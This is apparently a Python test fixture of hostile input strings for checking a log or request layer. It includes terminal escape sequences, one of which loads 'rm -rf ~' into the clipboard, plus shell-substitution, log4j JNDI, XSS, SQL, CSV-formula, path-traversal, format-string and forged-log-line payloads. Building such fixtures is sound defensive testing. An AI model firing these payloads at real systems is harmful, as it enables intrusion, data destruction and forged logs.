"""200 strings that strangers may send in the place of a user agent, a name or a path. The classes are written by hand, the table is not.

A character that is no byte stands for its UTF-8; a lone surrogate, where bytes are sent, for the three bytes that would encode it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

ESC, CSI, OSC, DCS, ST, BEL = "\x1b", "\x9b", "\x9d", "\x90", "\x9c", "\x07"


@dataclass(frozen=True)
class Case:
    """`name` for the test's id, `text` as it is sent."""

    name: str
    text: str

    @property
    def data(self) -> bytes:
        """As bytes on the wire."""
        return self.text.encode("utf-8", "surrogatepass")


# What terminals obey: ECMA-48, xterm's ctlseqs, and what is known to have been used against log readers (CVE-2003-0063 and its kin).
SEQUENCES = {
    "colour": "[31m",
    "blink": "[5m",
    "conceal": "[8m",
    "clear the screen": "[2J",
    "clear the line": "[2K",
    "cursor home": "[H",
    "cursor up": "[10A",
    "cursor to a place": "[1;1H",
    "other screen": "[?1049h",
    "hide the cursor": "[?25l",
    "scroll region": "[1;1r",
    "report the cursor": "[6n",
    "report the title": "[21t",
    "device attributes": "[c",
    "bracketed paste": "[?2004h",
    "reset": "[!p",
    "insert lines": "[99L",
    "mouse tracking": "[?1003h",
}
COMMANDS = {
    "title": "0;you are root",
    "clipboard": "52;c;cm0gLXJmIH4K",
    "hyperlink": "8;;http://192.0.2.66/",
    "palette": "4;0;rgb:ff/ff/ff",
    "working directory": "7;file://gpu/etc",
    "notification": "777;notify;a;b",
    "image": "1337;File=inline=1:AAAA",
}
SHORT = {
    "full reset": "c",
    "line drawing": "(0",
    "save the cursor": "7",
    "double height": "#3",
    "index": "D",
    "status line": "k\\",
    "device control": "P$q\\",
}
BIDI = {
    "LRE": "\u202a",
    "RLE": "\u202b",
    "PDF": "\u202c",
    "LRO": "\u202d",
    "RLO": "\u202e",
    "LRI": "\u2066",
    "RLI": "\u2067",
    "FSI": "\u2068",
    "PDI": "\u2069",
    "LRM": "\u200e",
    "RLM": "\u200f",
    "ALM": "\u061c",
}
INVISIBLE = {
    "zero width space": "\u200b",
    "zero width joiner": "\u200d",
    "word joiner": "\u2060",
    "soft hyphen": "\u00ad",
    "byte order mark": "\ufeff",
    "tag letter": "\U000e0041",
    "interlinear anchor": "\ufff9",
    "invisible times": "\u2062",
    "private use": "\ue000",
    "noncharacter": "\ufffe",
    "last noncharacter": "\U0010ffff",
    "unassigned": "\U000e0fff",
    "hangul filler": "\u3164",
    "mongolian vowel separator": "\u180e",
}
BREAKS = {
    "LF": "\n",
    "CR": "\r",
    "CRLF": "\r\n",
    "VT": "\v",
    "FF": "\f",
    "FS": "\x1c",
    "GS": "\x1d",
    "RS": "\x1e",
    "NEL": "\x85",
    "LS": "\u2028",
    "PS": "\u2029",
}
SURROGATES = {
    "high": "\ud800",
    "low": "\udc00",
    "last": "\udfff",
    "swapped": "\udc00\ud800",
    "high at the end": "x\udbff",
    "escaped byte": "\udc9b",
}
# Latin-1 of bytes that are not UTF-8: overlong, cut off, beyond the last code point, stray.
BYTES = {
    "overlong slash": "\xc0\xaf",
    "overlong NUL": "\xc0\x80",
    "overlong ESC": "\xc0\x9b",
    "overlong quotation mark": "\xe0\x80\xa2",
    "overlong LF in four": "\xf0\x80\x80\x8a",
    "beyond Unicode": "\xf4\x90\x80\x80",
    "five bytes": "\xf8\x88\x80\x80\x80",
    "cut off": "\xe2\x80",
    "stray continuation": "\xa8\x80",
    "FE FF": "\xfe\xff",
}
TEXTS = {
    "empty": "",
    "blank": " ",
    "ends the string": '"',
    "ends the object": '"}',
    "a second object": '"}\n{"action": "sign-in", "client": "127.0.0.1"}',
    "another client": '", "client": "198.51.100.1", "x": "',
    "another action": '", "action": "sign-in',
    "backslash": "\\",
    "backslash at the end": "x\\",
    "escaped quotation mark": '\\"',
    "JSON escape": "\\u001b[31m",
    "JSON NUL": "\\u0000",
    "null": "null",
    "prototype": "__proto__",
    "a line of ours": '{"time": "2026-11-20T10:11:12.123Z", "action": "refused-guess", "client": "198.51.100.1"}',
    "fail2ban's anchor": ', "action": "refused-guess", "client": "198.51.100.1"}',
    "fail2ban's tag": "<HOST> <ADDR> <F-USER>",
    "regex": "(a+)+$",
    "regex class": "[^]*?(?:)",
    "regex bound": ".{0,65535}",
    "percent s": "%s%s%s%s%n",
    "percent d": "%(asctime)s %(levelname)d",
    "braces": "{0}{1}{__class__}",
    "attribute": "{0.__class__.__init__.__globals__}",
    "format width": "{:>1000000000}",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "gettext header": "Content-Type: text/plain",
    "rich markup": "[bold red]you[/] [link=http://192.0.2.66]x[/link]",
    "shell": "$(id) `id` ; id | id && id > /tmp/x",
    "log4j": "${jndi:ldap://192.0.2.66/a}",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "SQL": "' OR 1=1 --",
    "CSV formula": "=cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "file URL": "file:///etc/passwd",
    "a query": "x?token=ab12&ticket=cd34",
    "a fragment": "x#<svg onload=alert(1)>",
    "Windows path": "C:\\nul\\..\\con",
    "wide": "ＧＰＵ　服务器",
    "emoji with joiners": "👩‍👩‍👧‍👦",
    "stacked accents": "a" + "\u0300" * 60,
    "turkish i": "İıſK",
    "right to left": "שלום עולם",
    "Chinese": "浏览器/5.0（训练）",
    "10 kB of a": "a" * 10_000,
    "10 kB of ESC": ESC * 10_000,
    "10 kB of quotation marks": '"' * 10_000,
    "10 kB of backslashes": "\\" * 10_000,
    "10 kB of Chinese": "长" * 10_000,
    "10 kB of emoji": "🦊" * 10_000,
    "cut inside an escape": "a" * 254 + ESC + "[31m",
    "cut inside a pair": "a" * 255 + "🦊",
}


def _for_terminals() -> Iterator[tuple[str, str]]:
    for (kind, lead), (name, rest) in product((("ESC", f"{ESC}"), ("C1", CSI)), SEQUENCES.items()):
        yield f"{kind} {name}", f"x{lead}{rest if kind == 'ESC' else rest[1:]}y"
    for (name, rest), (kind, end) in product(COMMANDS.items(), (("BEL", BEL), ("ST", f"{ESC}\\"))):
        yield f"OSC {name}, {kind}", f"{ESC}]{rest}{end}"
    for name, rest in COMMANDS.items():
        yield f"C1 OSC {name}", f"{OSC}{rest}{ST}"
    for name, rest in SHORT.items():
        yield f"ESC {name}", f"{ESC}{rest}"
    yield "C1 device control", f"{DCS}$q{ST}"
    yield "an escape that is never closed", f"{OSC}0;x"
    yield "nested", f"{ESC}]0;{ESC}[31m{BEL}"


def _for_readers() -> Iterator[tuple[str, str]]:
    for name, char in (*BIDI.items(), *INVISIBLE.items()):
        yield name, f"abc{char}def.exe"
    for name, char in BREAKS.items():
        yield f"{name} and a line", f'x{char}{{"time": "", "action": "sign-in", "client": "127.0.0.1"}}'
    for name, text in (*SURROGATES.items(), *BYTES.items(), *TEXTS.items()):
        yield name, text
    for point in (*range(9), *range(14, 27), 0x7F, 0x80, 0x84, 0x8D, 0x98, 0x9E, 0x9F):
        yield f"control {point:#04x}", f"a{chr(point)}b"


CASES = tuple(Case(name, text) for name, text in (*_for_terminals(), *_for_readers()))
